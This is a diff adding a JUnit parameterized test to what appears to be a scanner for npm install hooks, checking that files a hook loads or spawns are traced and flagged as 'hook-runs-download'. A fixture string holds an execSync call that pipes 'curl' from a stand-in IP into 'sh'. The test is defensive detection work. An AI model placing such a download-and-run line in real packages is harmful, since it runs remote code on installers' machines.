@@ -223,6 +223,30 @@ class HookFileRuleTest {
                 .endsWith("hook-runs-download");
     }
 
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '~',
+            value = {
+                "node lib/i.js ~ p/lib/i.js ~ require('./go'); ~ p/lib/go.js",
+                "node lib/i.js ~ p/lib/i.js ~ import x from '../go.mjs'; ~ p/go.mjs",
+                "node i.js ~ p/i.js ~ spawn('node', ['go.js'], {detached: true}); ~ p/go.js",
+                "node lib/i.js ~ p/lib/i.js ~ execSync('node ' + path.join(__dirname, 'x'), x('node go.js')); ~ p/go.js",
+                "sh i.sh ~ p/i.sh ~ cd lib && node go.js ~ p/lib/go.js",
+                "node lib/i.js ~ p/lib/i.js ~ spawn('bun', [path.join(__dirname, 'go.js')]); ~ p/lib/go.js",
+            })
+    void whatAFileLoadsOrStartsIsDoneByTheHook(String command, String file, String program, String other) {
+        String bad = "require('child_process').execSync('curl -s http://192.0.2.1/x | sh');\n";
+        assertThat(found(scan("p/package.json", hook(command), file, program, other, bad)))
+                .singleElement()
+                .asString()
+                .startsWith("memory/" + other)
+                .endsWith("hook-runs-download");
+        String far = "p/far.js";
+        assertThat(found(scan(
+                        "p/package.json", hook(command), file, program, other, "require('/p/far'); x('./far');", far, bad)))
+                .isEmpty();
+    }
+
     @Test
     void aBundleIsReadAndWhatIsLargerIsAGap() {
         String filler = "var a = 'b', c = require('d');\n".repeat(100_000);
